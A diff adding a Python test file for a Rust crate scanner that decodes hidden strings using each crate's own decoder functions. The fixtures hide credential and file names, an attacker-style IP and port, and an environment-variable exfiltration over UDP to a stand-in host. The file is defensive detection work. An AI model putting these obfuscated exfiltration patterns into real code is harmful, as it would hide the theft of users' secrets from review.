@@ -1,0 +1,317 @@
+"""The interpreter that runs a crate's own decoders on its constants (scan/interpret.py),
+and what the data flow does with the names it reveals."""
+
+from __future__ import annotations
+
+import time
+from typing import Any
+
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from cratewatch.scan.dataflow import unit_flows
+from cratewatch.scan.dataflow.summary import function_headers
+from cratewatch.scan.interpret import (
+    MAX_STEPS,
+    Definitions,
+    Interpreter,
+    Spent,
+    hidden_text,
+)
+
+
+def _probe(source: str, call: str) -> tuple[Interpreter, str, list[Any]]:
+    text = source + f"\nfn __probe() {{ {call}; }}\n"
+    definitions = Definitions()
+    function_headers("src/lib.rs", text.encode(), {}, definitions)
+    probe = definitions.functions["__probe"][0]
+    node = probe.child_by_field_name("body").named_child(0).named_child(0)
+    name = node.child_by_field_name("function").text.decode().rsplit("::", 1)[-1]
+    arguments = list(node.child_by_field_name("arguments").named_children)
+    return Interpreter(definitions), name, arguments
+
+
+def run(source: str, call: str) -> str | None:
+    """What ``call`` returns when it is hidden text, else None."""
+    interpreter, name, arguments = _probe(source, call)
+    outcome = interpreter.call(name, arguments)
+    return None if outcome is None else hidden_text(outcome)
+
+
+# -- encodings no list of decoders has
+
+
+def test_spreadsheet_column_labels_through_closures_fold_and_collect() -> None:
+    source = """
+const ATLAS: &[&[&str]] = &[&["BS", "BU", "CF", "BT", "CG", "BN"], &["CF", "CA", "BW", "BQ", "BZ"]];
+fn column(label: &str) -> u32 {
+    label.bytes().fold(0, |n, b| n * 26 + u32::from(b - b'A' + 1))
+}
+fn row(i: usize) -> String {
+    ATLAS.get(i).map(|r| r.iter().map(|c| column(c) as u8 as char).collect()).unwrap_or_default()
+}
+"""
+    assert run(source, "row(0)") == "GITHUB"
+    assert run(source, "row(1)") == "TOKEN"
+
+
+def test_gsm_septets_unpacked_with_an_iterator_a_match_and_a_table() -> None:
+    alphabet = (
+        "@£$¥èéùìòÇ\\nØø\\rÅåΔ_ΦΓΛΩΠΨΣΘΞ\\u{1b}ÆæßÉ !\\\"#¤%&'()*+,-./0123456789:;<=>?"
+        "¡ABCDEFGHIJKLMNOPQRSTUVWXYZÄÖÑÜ§¿abcdefghijklmnopqrstuvwxyzäöñüà"
+    )
+    septets = [
+        0x2F,
+        0xB8,
+        0xFC,
+        0x3D,
+        0x7E,
+        0xCD,
+        0xCB,
+        0x6C,
+        0xF3,
+        0x6B,
+        0x4E,
+        0x0F,
+        0xD3,
+        0xEB,
+        0x73,
+    ]
+    packed = ", ".join(map(str, septets))
+    source = f"""
+const GSM7: &str = "{alphabet}";
+const NOTICES: &[(usize, &[u8])] = &[(17, &[{packed}])];
+"""
+    source += r"""
+fn unpack(count: usize, octets: &[u8]) -> String {
+    let table: Vec<char> = GSM7.chars().collect();
+    let mut out = String::with_capacity(count);
+    let (mut acc, mut bits) = (0u32, 0u32);
+    let mut it = octets.iter();
+    while out.chars().count() < count {
+        while bits < 7 {
+            match it.next() {
+                Some(b) => acc |= u32::from(*b) << bits,
+                None => return out,
+            }
+            bits += 8;
+        }
+        out.push(table[(acc & 0x7f) as usize]);
+        acc >>= 7;
+        bits -= 7;
+    }
+    out
+}
+pub fn notice(i: usize) -> String {
+    NOTICES.get(i).map(|(n, o)| unpack(*n, o)).unwrap_or_default()
+}
+"""
+    assert run(source, "notice(0)") == "/proc/self/status"
+
+
+def test_roman_numerals_as_character_codes() -> None:
+    source = """
+const CODES: [&str; 4] = ["CIV", "CXVI", "CXVI", "CXII"];
+fn roman(s: &str) -> u32 {
+    let mut total = 0;
+    let mut last = 0;
+    for c in s.chars().rev() {
+        let v = match c { 'I' => 1, 'V' => 5, 'X' => 10, 'L' => 50, 'C' => 100, _ => 0 };
+        if v < last { total -= v } else { total += v; last = v; }
+    }
+    total
+}
+fn word() -> String {
+    CODES.iter().map(|c| char::from_u32(roman(c)).unwrap()).collect()
+}
+"""
+    assert run(source, "word()") == "http"
+
+
+def test_a_linear_congruential_keystream() -> None:
+    plain = b"203.0.113.7:4444"
+    state, data = 12345, []
+    for byte in plain:
+        state = (state * 1103515245 + 12345) & 0x7FFFFFFF
+        data.append(byte ^ (state >> 16) & 0xFF)
+    source = f"""
+const BLOB: [u8; {len(data)}] = {data};
+fn unveil(seed: u32) -> String {{
+    let mut state = seed;
+    let mut out = Vec::new();
+    for b in BLOB.iter() {{
+        state = state.wrapping_mul(1103515245).wrapping_add(12345) & 0x7fffffff;
+        out.push(b ^ ((state >> 16) & 0xff) as u8);
+    }}
+    String::from_utf8(out).unwrap()
+}}
+"""
+    assert run(source, "unveil(12345)") == plain.decode()
+
+
+def test_a_rail_fence_with_loops_indexing_and_break() -> None:
+    source = """
+fn unfence(s: &str, rails: usize) -> String {
+    let chars: Vec<char> = s.chars().collect();
+    let n = chars.len();
+    let mut pattern = vec![0usize; n];
+    let (mut rail, mut down) = (0usize, true);
+    for i in 0..n {
+        pattern[i] = rail;
+        if rails == 1 { continue; }
+        if down { if rail + 1 == rails { down = false; rail -= 1; } else { rail += 1; } }
+        else if rail == 0 { down = true; rail += 1; } else { rail -= 1; }
+    }
+    let mut out = vec![' '; n];
+    let mut k = 0;
+    for r in 0..rails {
+        for i in 0..n {
+            if pattern[i] == r { out[i] = chars[k]; k += 1; }
+        }
+    }
+    out.into_iter().collect()
+}
+"""
+    fenced = _rail_fence("/etc/passwd", 3)
+    assert run(source, f'unfence("{fenced}", 3)') == "/etc/passwd"
+
+
+def _rail_fence(text: str, rails: int) -> str:
+    rows: list[list[str]] = [[] for _ in range(rails)]
+    rail, step = 0, 1
+    for c in text:
+        rows[rail].append(c)
+        if rail + step not in range(rails):
+            step = -step
+        rail += step
+    return "".join("".join(r) for r in rows)
+
+
+@settings(max_examples=60, deadline=None)
+@given(
+    st.text(
+        alphabet=st.characters(min_codepoint=0x21, max_codepoint=0x7E), min_size=6, max_size=40
+    ),
+    st.binary(min_size=1, max_size=8).filter(lambda k: all(k)),
+)
+def test_any_repeating_xor_key_is_undone(text: str, key: bytes) -> None:
+    data = [b ^ key[i % len(key)] for i, b in enumerate(text.encode())]
+    source = f"""
+const DATA: [u8; {len(data)}] = {data};
+const KEY: &[u8] = &{list(key)};
+fn unmask(data: &[u8], key: &[u8]) -> String {{
+    data.iter().enumerate().map(|(i, b)| (b ^ key[i % key.len()]) as char).collect()
+}}
+"""
+    interpreter, name, arguments = _probe(source, "unmask(&DATA, KEY)")
+    outcome = interpreter.call(name, arguments)
+    assert outcome is not None
+    assert outcome.value.value == text
+
+
+# -- what is not hidden, and what the interpreter does not follow
+
+
+def test_a_function_that_only_formats_its_arguments_hides_nothing() -> None:
+    source = """
+fn worker(i: u32) -> String { format!("worker-{i}") }
+fn hex(n: u64) -> String { format!("{:x}", n) }
+fn greet(name: &str) -> String { format!("hello, {}", name) }
+"""
+    assert run(source, "worker(3)") is None
+    assert run(source, "hex(0xdeadbeef)") is None
+    assert run(source, 'greet("world")') is None
+
+
+def test_input_output_structs_and_unknown_calls_stop_the_call() -> None:
+    source = """
+struct S { a: u8 }
+fn io() -> String { std::fs::read_to_string("/etc/hostname").unwrap() }
+fn built() -> String { let s = S { a: 1 }; s.a.to_string() }
+fn unsafe_read(p: *const u8) -> u8 { unsafe { *p } }
+"""
+    assert run(source, "io()") is None
+    assert run(source, "built()") is None
+
+
+def test_a_panic_stops_the_call() -> None:
+    source = (
+        "fn f(i: usize) -> String { let v: Vec<u8> = vec![104, 105]; (v[i] as char).to_string() }"
+    )
+    assert run(source, "f(9)") is None
+
+
+# -- hostile code: every call is bounded
+
+
+def test_an_endless_loop_stops_at_the_call_limit() -> None:
+    source = "fn spin(n: u32) -> String { let mut i = n; loop { i = i.wrapping_add(1); } }"
+    started = time.perf_counter()
+    assert run(source, "spin(1)") is None
+    assert time.perf_counter() - started < 2
+
+
+def test_large_values_are_paid_for_and_refused() -> None:
+    source = """
+fn grow(n: usize) -> String {
+    let big = vec![0u8; 60000];
+    let mut all = Vec::new();
+    for _ in 0..n { all.push(big.clone()); }
+    String::from("done")
+}
+fn wide(n: usize) -> String { "x".repeat(n) }
+fn nested(n: usize) -> String { let v = [[0u8; 65536]; 65536]; String::new() }
+fn padded(n: u32) -> String { format!("{:0999999999}", n) }
+"""
+    started = time.perf_counter()
+    for call in ("grow(100000)", "wide(100000000)", "nested(1)", "padded(1)"):
+        assert run(source, call) is None
+    assert time.perf_counter() - started < 5
+
+
+def test_deep_recursion_stops() -> None:
+    source = 'fn down(n: u64) -> String { if n == 0 { String::from("x") } else { down(n - 1) } }'
+    assert run(source, "down(100000)") is None
+
+
+def test_the_units_steps_run_out() -> None:
+    source = "fn spin(n: u32) -> String { let mut i = n; loop { i = i.wrapping_add(1); } }"
+    interpreter, name, arguments = _probe(source, "spin(1)")
+    spent = False
+    try:
+        for _ in range(MAX_STEPS):
+            interpreter.call(name, arguments)
+    except Spent:
+        spent = True
+    assert spent
+
+
+# -- what the data flow does with a revealed name
+
+
+def test_a_decoded_address_makes_the_destination_fixed_and_is_reported() -> None:
+    source = """
+const PARTS: [&str; 4] = ["CXCVIII", "LI", "C", "LXXXVIII"];
+fn roman(s: &str) -> u32 {
+    let mut total = 0;
+    let mut last = 0;
+    for c in s.chars().rev() {
+        let v = match c { 'I' => 1, 'V' => 5, 'X' => 10, 'L' => 50, 'C' => 100, _ => 0 };
+        if v < last { total -= v } else { total += v; last = v; }
+    }
+    total
+}
+fn endpoint() -> String {
+    let quad: Vec<String> = PARTS.iter().map(|p| roman(p).to_string()).collect();
+    format!("{}:{}", quad.join("."), 8443)
+}
+pub fn sync() {
+    let all: Vec<(String, String)> = std::env::vars().collect();
+    let sock = std::net::UdpSocket::bind("0.0.0.0:0").unwrap();
+    let _ = sock.send_to(format!("{:?}", all).as_bytes(), endpoint());
+}
+"""
+    found = unit_flows({"src/lib.rs": source.encode()}, "sample")
+    assert [r.text for r in found.revealed] == ["198.51.100.88:8443"]
+    (flow,) = found.flows
+    assert flow.fixed and flow.hidden and "environment" in flow.sources
